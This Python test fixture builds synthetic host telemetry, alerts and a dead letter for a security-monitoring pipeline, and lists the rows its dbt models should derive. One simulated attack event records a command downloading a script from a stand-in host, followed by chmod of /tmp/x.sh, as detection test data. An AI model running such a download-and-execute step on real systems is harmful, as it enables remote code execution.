"""A small fixed bronze lake (events, alerts, one dead letter) and the gold rows dbt must derive.

The expected rows are worked out by hand from the records below, so a test comparing them with
what dbt built checks the models, not a second implementation of them. Dagster tests reuse it.
"""

from __future__ import annotations

from collections import defaultdict
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson
import pyarrow as pa
import pyarrow.parquet as pq

from orchestration.lib.bronze import ALERTS as ALERTS_TABLE
from orchestration.lib.bronze import DLQ as DLQ_TABLE
from orchestration.lib.bronze import EVENTS as EVENTS_TABLE
from orchestration.lib.bronze import BronzeTable, LakePaths, Record
from sentinel.contracts import validate
from streams.validation.validate import DeadLetter

TOPICS = {
    "events": "sentinel.events.v1",
    "alerts": "sentinel.alerts.v1",
    "dlq": "sentinel.events.dlq.v1",
}

_HOSTS = {
    "h-001": {"id": "h-001", "name": "web-1", "os": "linux"},
    "h-002": {"id": "h-002", "name": "db-1", "os": "linux"},
}
_SENSORS = {
    "proc": {"name": "procfs", "version": "0.1.0"},
    "file": {"name": "fanotify", "version": "0.1.0"},
    "net": {"name": "ebpf", "version": "0.1.0"},
    "dns": {"name": "dns", "version": "0.1.0"},
    "auth": {"name": "pam", "version": "0.1.0"},
}
_BASELINE = {"scenario": "baseline", "attack": False}
_ATTACK = {"scenario": "curl-pipe-shell", "attack": True, "technique": "T1059.004"}
_SHA = "5d41402abc4b2a76b9719d911017c592aaf2d3c6b4e6f0a1c7d8e9f00112233a"


def _event(
    n: int, ts: str, host: str, kind: str, body: dict[str, Any], labels: dict[str, Any] = _BASELINE
) -> dict[str, Any]:
    return {
        "schema": "sentinel.event/1",
        "id": f"evt-{n:02d}",
        "ts": f"2026-12-03T{ts}Z",
        "host": _HOSTS[host],
        "sensor": _SENSORS[kind],
        "kind": kind,
        kind: body,
        "labels": labels,
    }


# query_entropy = Shannon entropy (bits per character) of lower(query) without its trailing dot:
#   "x.io"     4 distinct chars of 4                          -> log2(4)              = 2.0
#   "X.IO."    -> "x.io"                                      ->                        2.0
#   "abc.x.io" '.' twice, 6 singles of 8 -> 2/8*log2(4) + 6/8*log2(8) = 0.5 + 2.25   = 2.75
#   "wxyz.com" 8 distinct chars of 8                          -> log2(8)              = 3.0
#   "aabb.com" a, b twice, 4 singles of 8 -> 2*(2/8*2) + 4*(1/8*3)     = 1.0 + 1.5   = 2.5
_AUTH_FAILURE_ROOT = _event(
    11,
    "08:04:00",
    "h-001",
    "auth",
    {"action": "failure", "user": "root", "src_ip": "198.51.100.9", "method": "password"},
)

EVENTS: list[dict[str, Any]] = [
    # h-001, window 08:00
    _event(
        1,
        "08:00:10",
        "h-001",
        "proc",
        {
            "action": "exec",
            "pid": 2001,
            "ppid": 2000,
            "exe": "/usr/bin/curl",
            "cmdline": "curl -s http://203.0.113.7/x.sh",
            "user": "www-data",
            "uid": 33,
            "parent_exe": "/bin/bash",
            "cwd": "/var/www",
        },
        _ATTACK,
    ),
    _event(
        2,
        "08:00:20",
        "h-001",
        "proc",
        {
            "action": "exec",
            "pid": 2002,
            "ppid": 812,
            "exe": "/bin/sh",
            "parent_exe": "/usr/sbin/sshd",
        },
    ),
    _event(3, "08:00:30", "h-001", "proc", {"action": "exit", "pid": 2001, "exe": "/usr/bin/curl"}),
    _event(
        4,
        "08:01:00",
        "h-001",
        "file",
        {
            "action": "create",
            "path": "/tmp/x.sh",
            "pid": 2001,
            "exe": "/usr/bin/curl",
            "size": 120,
            "sha256": _SHA,
        },
        _ATTACK,
    ),
    _event(
        5,
        "08:01:10",
        "h-001",
        "file",
        {"action": "modify", "path": "/etc/crontab", "pid": 2002, "exe": "/bin/sh", "size": 842},
    ),
    _event(
        6, "08:01:20", "h-001", "file", {"action": "chmod", "path": "/tmp/x.sh", "mode": "0755"}
    ),
    _event(
        7,
        "08:02:00",
        "h-001",
        "net",
        {
            "action": "connect",
            "proto": "tcp",
            "src_ip": "10.0.1.5",
            "src_port": 41000,
            "dst_ip": "203.0.113.7",
            "dst_port": 80,
            "pid": 2001,
            "exe": "/usr/bin/curl",
            "bytes_in": 5000,
            "bytes_out": 1000,
            "packets": 12,
        },
    ),
    _event(
        8,
        "08:02:30",
        "h-001",
        "net",
        {
            "action": "flow",
            "proto": "udp",
            "dst_ip": "10.0.0.2",
            "dst_port": 53,
            "bytes_in": 700,
            "bytes_out": 500,
            "packets": 4,
        },
    ),
    _event(
        9,
        "08:03:00",
        "h-001",
        "dns",
        {"query": "x.io", "qtype": "A", "rcode": "NOERROR", "answers": ["198.51.100.4"]},
    ),
    _event(
        10,
        "08:03:30",
        "h-001",
        "dns",
        {"query": "wxyz.com", "qtype": "TXT", "rcode": "NXDOMAIN", "answers": [], "pid": 2002},
    ),
    _AUTH_FAILURE_ROOT,
    _AUTH_FAILURE_ROOT,  # the producer retried: the same event again at a later offset
    # h-001, window 08:05 (08:05:00 itself opens the second window)
    _event(
        12,
        "08:05:00",
        "h-001",
        "auth",
        {"action": "login", "user": "alice", "src_ip": "10.0.0.11", "method": "publickey"},
    ),
    _event(
        13,
        "08:06:00",
        "h-001",
        "dns",
        {
            "query": "X.IO.",
            "qtype": "AAAA",
            "rcode": "NOERROR",
            "answers": ["2001:db8::4"],
            "server": "10.0.0.2",
        },
    ),
    _event(
        14,
        "08:09:59.999999",
        "h-001",
        "proc",
        {"action": "exec", "pid": 2100, "exe": "/usr/bin/python3", "parent_exe": "/bin/bash"},
    ),
    # h-002, window 08:00
    _event(
        15,
        "08:00:00",
        "h-002",
        "file",
        {"action": "rename", "path": "/var/lib/pg/a", "new_path": "/var/lib/pg/b"},
    ),
    _event(
        16,
        "08:04:59.999",
        "h-002",
        "net",
        {"action": "accept", "proto": "tcp", "dst_ip": "10.0.2.7", "dst_port": 5432},
    ),
    # h-002, window 08:05
    _event(17, "08:07:00", "h-002", "dns", {"query": "abc.x.io", "qtype": "A", "rcode": "NOERROR"}),
    _event(
        18, "08:07:30", "h-002", "dns", {"query": "wxyz.com", "qtype": "A", "rcode": "NXDOMAIN"}
    ),
    _event(
        19, "08:07:45", "h-002", "dns", {"query": "aabb.com", "qtype": "TXT", "rcode": "NXDOMAIN"}
    ),
    _event(20, "08:08:00", "h-002", "auth", {"action": "failure", "user": "admin"}),
    _event(21, "08:08:01", "h-002", "auth", {"action": "failure", "user": "admin"}),
    _event(
        22,
        "08:09:00",
        "h-002",
        "file",
        {"action": "modify", "path": "/var/log/postgresql.log", "size": 1024},
    ),
    _event(
        23,
        "08:09:30",
        "h-002",
        "net",
        {
            "action": "connect",
            "proto": "tcp",
            "dst_ip": "10.0.2.8",
            "dst_port": 443,
            "bytes_out": 250,
        },
    ),
    _event(
        24, "08:09:40", "h-002", "auth", {"action": "sudo", "user": "postgres", "method": "pam"}
    ),
]
DISTINCT_EVENT_IDS = 24  # 25 records, evt-11 twice


def _alert(
    digit: str, ts: str, rule: str, severity: str, title: str, host: str, event_ids: list[str]
) -> dict[str, Any]:
    return {
        "schema": "sentinel.alert/1",
        "id": digit * 16,
        "ts": f"2026-12-03T{ts}Z",
        "rule": {"id": rule, "version": "1.0.0", "hash": digit * 64},
        "severity": severity,
        "title": title,
        "host": {"id": host},
        "event_ids": event_ids,
        "dedup_key": host,
        "provenance": {"pack": "core", "pack_version": "1.0.0", "engine_version": "0.1.0"},
    }


_BRUTEFORCE = {
    **_alert(
        "b",
        "08:08:01",
        "core.ssh_bruteforce",
        "medium",
        "Repeated authentication failures",
        "h-002",
        ["evt-20", "evt-21"],
    ),
    "count": 2,
    "mitre": ["T1110.001"],
    "window_start": "2026-12-03T08:05:00Z",
}
ALERTS: list[dict[str, Any]] = [
    {
        **_alert(
            "a",
            "08:00:15",
            "core.curl_pipe_shell",
            "high",
            "Download piped into a shell",
            "h-001",
            ["evt-01"],
        ),
        "count": 1,
        "mitre": ["T1059.004", "T1105"],
        "window_start": "2026-12-03T08:00:00Z",
    },
    _BRUTEFORCE,
    # no count (counts as 1 event), no mitre, no window_start
    _alert(
        "c",
        "08:09:40",
        "core.curl_pipe_shell",
        "high",
        "Download piped into a shell",
        "h-002",
        ["evt-23"],
    ),
    _BRUTEFORCE,  # a replay repeats it
]
DISTINCT_ALERT_IDS = 3

DEAD_LETTERS: list[DeadLetter] = [
    DeadLetter(
        key=b"h-002",
        value=b"{not json",
        error="not JSON: key must be a string at line 1 column 2",
        stage="validate",
        topic=TOPICS["events"],
        partition=0,
        offset=42,
    )
]


def _ts(hms: str) -> datetime:
    return datetime.fromisoformat(f"2026-12-03T{hms}+00:00")


# Each expected list holds the columns named beside it, ordered by the model's primary key.
HOST_ACTIVITY_COLUMNS = (
    "host_id",
    "window_start",
    "events",
    "process_spawns",
    "distinct_parents",
    "file_writes",
    "bytes_out",
    "dns_queries",
    "dns_entropy_avg",
    "dns_entropy_max",
    "auth_failures",
)
EXPECTED_HOST_ACTIVITY: list[tuple[Any, ...]] = [
    # evt-01..11: exec curl (bash) + exec sh (sshd), create + modify (chmod is no write),
    # 1000 + 500 bytes out, x.io (2.0) and wxyz.com (3.0), root's failure once despite the retry
    ("h-001", _ts("08:00:00"), 11, 2, 2, 2, 1500, 2, 2.5, 3.0, 1),
    # evt-12..14: a login, X.IO. (2.0), exec python3 (bash)
    ("h-001", _ts("08:05:00"), 3, 1, 1, 0, 0, 1, 2.0, 2.0, 0),
    # evt-15..16: a rename and an accept without byte counts
    ("h-002", _ts("08:00:00"), 2, 0, 0, 0, 0, 0, None, None, 0),
    # evt-17..24: abc.x.io (2.75), wxyz.com (3.0), aabb.com (2.5) -> 8.25 / 3 = 2.75;
    # two failures, a sudo, a modify, 250 bytes out
    ("h-002", _ts("08:05:00"), 8, 0, 0, 1, 250, 3, 2.75, 3.0, 2),
]

DNS_DOMAIN_COLUMNS = (
    "registered_domain",
    "queries",
    "distinct_hosts",
    "distinct_queries",
    "nxdomain_ratio",
    "txt_queries",
    "entropy_avg",
    "entropy_max",
    "first_seen",
    "last_seen",
)
EXPECTED_DNS_DOMAINS: list[tuple[Any, ...]] = [
    ("aabb.com", 1, 1, 1, 1.0, 1, 2.5, 2.5, _ts("08:07:45"), _ts("08:07:45")),
    ("wxyz.com", 2, 2, 1, 1.0, 1, 3.0, 3.0, _ts("08:03:30"), _ts("08:07:30")),
    # x.io, X.IO. (the same name) and abc.x.io: (2.0 + 2.0 + 2.75) / 3 = 2.25
    ("x.io", 3, 2, 2, 0.0, 0, 2.25, 2.75, _ts("08:03:00"), _ts("08:07:00")),
]

ALERT_ROLLUP_COLUMNS = (
    "day",
    "rule_id",
    "severity",
    "alerts",
    "distinct_hosts",
    "events",
    "first_seen",
    "last_seen",
)
# The replayed brute-force alert counts once.
EXPECTED_ALERT_ROLLUP: list[tuple[Any, ...]] = [
    (
        date(2026, 12, 3),
        "core.curl_pipe_shell",
        "high",
        2,
        2,
        2,
        _ts("08:00:15"),
        _ts("08:09:40"),
    ),
    (
        date(2026, 12, 3),
        "core.ssh_bruteforce",
        "medium",
        1,
        1,
        2,
        _ts("08:08:01"),
        _ts("08:08:01"),
    ),
]

# Records reach Kafka after the events happened; each topic's offsets count from 0 in partition 0.
_PRODUCED_AT = datetime(2026, 12, 3, 8, 10, tzinfo=UTC)
_LANDING_DELAY = timedelta(minutes=1)


def _write(paths: LakePaths, table: BronzeTable, topic: str, records: list[Record]) -> None:
    """One Parquet file per hour folder, named and typed as landing names and types them."""
    by_folder: dict[tuple[str, str], list[tuple[Any, ...]]] = defaultdict(list)
    for record in records:
        folder, row = table.parser(record)
        produced = datetime.fromtimestamp(record.timestamp / 1000, UTC)  # type: ignore[operator]
        kafka = (record.partition, record.offset, produced, produced + _LANDING_DELAY)
        by_folder[folder].append((*row[: len(table.columns)], *kafka))
    for (day, hour), rows in sorted(by_folder.items()):
        columns = [
            # timestamps arrive as RFC 3339 strings; Arrow parses them
            pa.array(values, pa.string()).cast(field.type)
            if pa.types.is_timestamp(field.type) and isinstance(values[0], str)
            else pa.array(values, field.type)
            for values, field in zip(zip(*rows, strict=True), table.schema, strict=True)
        ]
        offsets = [row[len(table.columns) + 1] for row in rows]
        path = paths.bronze(topic) / f"date={day}" / f"hour={hour}"
        path.mkdir(parents=True, exist_ok=True)
        pq.write_table(
            pa.Table.from_arrays(columns, schema=table.schema),
            path / f"p000-{offsets[0]:012d}-{offsets[-1]:012d}.parquet",
        )


Message = tuple[bytes | None, bytes, list[tuple[str, bytes | None]]]  # key, value, headers


def _records(messages: list[Message]) -> list[Record]:
    return [
        Record(0, offset, int((_PRODUCED_AT.timestamp() + offset) * 1000), key, value, headers)
        for offset, (key, value, headers) in enumerate(messages)
    ]


def write_bronze(
    root: Path,
    topics: dict[str, str],
    events: list[dict[str, Any]],
    alerts: list[dict[str, Any]],
    dead_letters: list[DeadLetter],
) -> LakePaths:
    """Land the records as bronze Parquet under `root`, one record per list item, in list order.

    Each message is checked against its contract first, so a fixture cannot drift from it.
    """
    paths = LakePaths(root)
    for contract, checked in (("event", events), ("alert", alerts)):
        for message in checked:
            validate(contract, message)
    messages: dict[str, list[Message]] = {
        "events": [(e["host"]["id"].encode(), orjson.dumps(e), []) for e in events],
        "alerts": [(a["host"]["id"].encode(), orjson.dumps(a), []) for a in alerts],
        "dlq": [(d.key, d.value, list(d.headers())) for d in dead_letters],
    }
    for table in (EVENTS_TABLE, ALERTS_TABLE, DLQ_TABLE):
        if messages[table.name]:
            _write(paths, table, topics[table.name], _records(messages[table.name]))
    return paths
